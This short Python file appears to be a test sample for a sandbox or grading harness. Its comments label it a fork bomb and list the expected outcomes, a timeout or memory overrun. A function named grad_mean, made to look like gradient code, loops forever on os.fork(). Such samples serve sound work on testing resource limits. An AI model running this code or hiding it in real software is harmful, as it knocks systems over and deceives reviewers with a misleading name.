# A fork bomb: every process forks as fast as it can.
# loses: 3
# told: did not return within {CALL_TIMEOUT_SECONDS:g} s | used more than 512 MB
# watch: 2
import os


def grad_mean(dX_hat, var, eps):
    while True:
        try:
            os.fork()
        except OSError:
            pass
